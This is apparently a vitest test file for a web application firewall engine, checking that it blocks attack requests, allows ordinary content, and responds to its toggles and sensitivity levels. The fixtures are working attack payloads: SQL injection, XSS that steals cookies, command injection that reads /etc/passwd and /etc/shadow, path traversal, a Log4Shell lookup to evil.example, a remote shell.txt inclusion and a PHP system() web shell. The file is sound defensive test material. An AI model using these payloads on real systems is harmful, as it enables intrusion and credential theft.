import { describe, expect, it } from 'vitest';
import type { EdgeRequest } from '../../../lambdas/core/edge-request.ts';
import { inspectRequest } from '../../../lambdas/core/waf/index.ts';
import { form, get, json, post, waf } from './helpers.ts';

const balanced = waf();

const SQLI_CASES: Array<[string, EdgeRequest]> = [
  ['UNION SELECT in a query value', get('/items?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--')],
  ['a quoted tautology', get("/login?user=admin'%20OR%20'1'='1")],
  ['a comment-truncated login', form("user=admin'--&pw=x")],
  ['UNION/**/SELECT with comments as whitespace', get('/items?id=1/**/UNION/**/SELECT/**/1,2,3')],
  ['MySQL versioned comments', get('/items?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2')],
  ['double URL encoding', get('/items?id=1%2527%2520OR%25201%253D1--')],
  ['a time-based probe in JSON', json({ filter: { name: "x' AND SLEEP(5)-- -" } })],
  ['a stacked query', get('/items?id=1;%20DROP%20TABLE%20users')],
];

const XSS_CASES: Array<[string, EdgeRequest]> = [
  ['a script element', get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E')],
  ['an event handler', get('/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E')],
  ['HTML entities', get('/search?q=%26lt%3Bsvg%2Fonload%3Dalert%281%29%26gt%3B')],
  ['%u encoding', get('/search?q=%u003Cscript%u003Ealert(1)')],
  ['a JS-escaped tag in JSON', json({ bio: '\\u003cscript\\u003ealert(document.cookie)\\u003c/script\\u003e' })],
  ['full-width angle brackets', get('/search?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)')],
  ['a javascript: URL with a tab inside', get('/r?to=java%09script:alert(1)')],
  ['an attribute break-out', get('/search?q=%22%20onmouseover=%22alert(1)')],
];

const RCE_CASES: Array<[string, EdgeRequest]> = [
  ['a chained command', get('/ping?host=127.0.0.1;cat%20/etc/passwd')],
  ['command substitution', get('/ping?host=$(whoami)')],
  ['IFS instead of spaces', get('/ping?host=1%7Ccat%24%7BIFS%7D/etc/passwd')],
  ['quotes inside the command word', get("/ping?host=1;c'a't%20/etc/shadow")],
  ['Shellshock in the User-Agent', get('/', { 'user-agent': '() { :; }; /bin/bash -c "id"' })],
  ['a Windows command', get('/ping?host=x%26%20ipconfig%20/all')],
];

const LFI_CASES: Array<[string, EdgeRequest]> = [
  ['dot-dot-slash', get('/download?file=../../../../etc/passwd')],
  ['encoded dots', get('/download?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd')],
  ['overlong UTF-8', get('/download?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd')],
  ['backslashes', get('/download?file=..%5c..%5cwindows%5cwin.ini')],
  ['a traversal in the path', get('/static/..%2f..%2f..%2fetc/shadow')],
  ['a php:// wrapper', get('/view?page=php://filter/convert.base64-encode/resource=index.php')],
];

describe('WAF engine: attacks are stopped at sensitivity 70', () => {
  it.each([
    ...SQLI_CASES.map(([name, req]) => ['SQL injection', name, req, 'sql_injection'] as const),
    ...XSS_CASES.map(([name, req]) => ['XSS', name, req, 'xss'] as const),
    ...RCE_CASES.map(([name, req]) => ['command injection', name, req, 'remote_code_execution'] as const),
    ...LFI_CASES.map(([name, req]) => ['file inclusion', name, req, 'local_file_inclusion'] as const),
  ])('blocks %s: %s', (_family, _name, req, threatType) => {
    // Act
    const decision = inspectRequest(balanced, req);
    // Assess
    expect(decision.action).toBe('block');
    expect(decision.threatType).toBe(threatType);
    expect(decision.ruleIds.length).toBeGreaterThan(0);
  });

  it('blocks a remote file inclusion to a raw IP address with its own threat type', () => {
    // Act
    const decision = inspectRequest(balanced, get('/view?page=http://198.51.100.9/shell.txt?'));
    // Assess
    expect(decision.action).toBe('block');
    expect(decision.threatType).toBe('remote_file_inclusion');
    expect(decision.ruleIds.some((id) => id.startsWith('RFI-'))).toBe(true);
  });

  it.each([
    [
      'Log4Shell',
      get('/', { 'user-agent': 'Mozilla/5.0', 'x-api-version': `\${jndi:ldap://evil.example/a}` }),
      'java_injection',
    ],
    ['PHP code', form('cmd=<?php system($_GET["c"]); ?>'), 'php_injection'],
    [
      'Node prototype pollution',
      post('application/json', '{"user": {"__proto__": {"isAdmin": true}}}'),
      'node_injection',
    ],
    ['a template expression', get('/hello?name={{7*7}}'), 'template_injection'],
  ])('blocks %s under the RCE toggle with its own threat type', (_name, req, threatType) => {
    // Act
    const decision = inspectRequest(balanced, req);
    // Assess
    expect(decision.action).toBe('block');
    expect(decision.threatType).toBe(threatType);
  });

  it('blocks a known scanner by its User-Agent', () => {
    // Act
    const decision = inspectRequest(balanced, get('/', { 'user-agent': 'sqlmap/1.7.8#stable (https://sqlmap.org)' }));
    // Assess
    expect(decision.action).toBe('block');
    expect(decision.threatType).toBe('scanner');
    expect(decision.matches[0]?.location).toBe('header:user-agent');
  });

  it('reports where the input matched, with the decoded value cut to 80 characters', () => {
    // Prepare
    const long = `1 UNION SELECT ${'a,'.repeat(100)}b FROM users`;
    // Act
    const decision = inspectRequest(balanced, json({ user: { name: long } }));
    // Assess
    const match = decision.matches.find((m) => m.ruleId === 'SQLI-100');
    expect(match?.location).toBe('body.json:user.name');
    expect(match?.value.length).toBe(80);
    expect(decision.score).toBeGreaterThanOrEqual(5);
    expect(decision.reason).toContain('body.json:user.name');
  });
});

describe('WAF engine: ordinary content is allowed at sensitivity 70', () => {
  it.each([
    [
      'JSON prose with apostrophes',
      json({ title: "Don't select the union of O'Brien's sets", body: "It's 5 o'clock; we're done or we'll wait" }),
    ],
    [
      'markdown with code fences and tables',
      json({
        body: '## Usage\n\n```bash\nnpm install && npm test\n```\n\n| Flag | Type |\n| --- | --- |\n| `--json` | Boolean |\n\nRun `ls` or `cat` to see files.',
      }),
    ],
    [
      'a code snippet',
      json({ snippet: 'const user = await db.select("name").from("users").where({ id });\nif (a || b) { run(); }' }),
    ],
    [
      'an email-style form post',
      form('name=Jos%C3%A9+D%27Angelo&message=Hi+--+see+you+at+5%3B+thanks%21&email=jose%40example.com'),
    ],
    ['search terms with SQL words', get('/search?q=select%20union%20drop%20from%20where')],
    ['a relative link in a document', json({ body: 'See [the docs](../guide/intro.md) for details.' })],
    [
      'HTML formatting in a comment',
      json({ comment: 'I <b>love</b> this <i>product</i>, see <a href="https://example.com">here</a>' }),
    ],
    ['a URL parameter', get('/redirect?next=https%3A%2F%2Fexample.com%2Fcart%3Fitem%3D42')],
  ])('allows %s', (_name, req) => {
    // Act
    const decision = inspectRequest(balanced, req);
    // Assess
    expect(decision.action).toBe('allow');
    expect(decision.threatType).toBe('none');
  });
});

describe('WAF engine: toggles and sensitivity', () => {
  it('does not report SQL injection when owaspSqlEnabled is false', () => {
    // Prepare
    const req = get('/items?id=1%20UNION%20SELECT%201,2');
    // Act
    const off = inspectRequest(waf({ owaspSqlEnabled: false }), req);
    const on = inspectRequest(balanced, req);
    // Assess
    expect(on.action).toBe('block');
    expect(off.action).toBe('allow');
  });

  it.each([
    ['owaspXssEnabled', get('/s?q=%3Cscript%3Ealert(1)%3C/script%3E')],
    ['owaspRceEnabled', get('/p?h=1;cat%20/etc/hosts%20')],
    ['owaspLfiEnabled', get('/d?f=../../../../boot.ini')],
    ['owaspScannerEnabled', get('/', { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)' })],
  ])('switching %s off lets its attacks through', (toggle, req) => {
    // Act
    const off = inspectRequest(waf({ [toggle]: false }), req);
    const on = inspectRequest(balanced, req);
    // Assess
    expect(on.action).not.toBe('allow');
    expect(off.action).toBe('allow');
  });

  it('activates more signatures and lower thresholds as sensitivity rises', () => {
    // Act
    const levels = [0, 30, 50, 70, 90, 100].map((s) => waf({ sensitivityScore: s }));
    // Assess
    for (let i = 1; i < levels.length; i++) {
      expect(levels[i]!.signatures.length).toBeGreaterThanOrEqual(levels[i - 1]!.signatures.length);
      expect(levels[i]!.challengeThreshold).toBeLessThanOrEqual(levels[i - 1]!.challengeThreshold);
    }
    expect(levels[5]!.signatures.length).toBeGreaterThan(levels[0]!.signatures.length);
  });

  it('challenges a lone script sink at 70 and blocks it only when paranoid', () => {
    // Prepare
    const req = get('/s?q=alert(document.cookie)');
    // Act
    const low = inspectRequest(waf({ sensitivityScore: 30 }), req);
    const balancedDecision = inspectRequest(balanced, req);
    const paranoid = inspectRequest(waf({ sensitivityScore: 100 }), req);
    // Assess
    expect(low.action).toBe('allow');
    expect(balancedDecision.action).toBe('challenge');
    expect(paranoid.action).toBe('block');
  });

  it('blocks a bare SELECT … FROM in a search box only at the paranoid end', () => {
    // Prepare
    const req = get('/search?q=select%20name%20from%20the%20list');
    // Act
    const balancedDecision = inspectRequest(balanced, req);
    const paranoid = inspectRequest(waf({ sensitivityScore: 100 }), req);
    // Assess
    expect(balancedDecision.action).toBe('allow');
    expect(paranoid.action).not.toBe('allow');
  });
});

describe('WAF engine: User-Agent memo', () => {
  it('gives the same verdict for a repeated User-Agent, per compiled configuration', () => {
    // Prepare
    const agent = { 'user-agent': 'Mozilla/5.0 sqlmap/1.7' };
    const scannerOff = waf({ owaspScannerEnabled: false });
    // Act
    const first = inspectRequest(balanced, get('/', agent));
    const second = inspectRequest(balanced, get('/', agent));
    const otherConfig = inspectRequest(scannerOff, get('/', agent));
    // Assess
    expect(first.action).toBe('block');
    expect(second).toEqual(first);
    expect(otherConfig.action).toBe('allow');
  });

  it('still reports a rule matched in the User-Agent once another input matched it first', () => {
    // Prepare
    const attack = get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E', {
      'user-agent': '<script>alert(1)</script>',
    });
    // Act
    inspectRequest(balanced, get('/', { 'user-agent': '<script>alert(1)</script>' }));
    const decision = inspectRequest(balanced, attack);
    // Assess
    expect(decision.ruleIds).toContain('XSS-100');
    expect(decision.matches.find((m) => m.ruleId === 'XSS-100')?.location).toBe('query:q');
  });
});
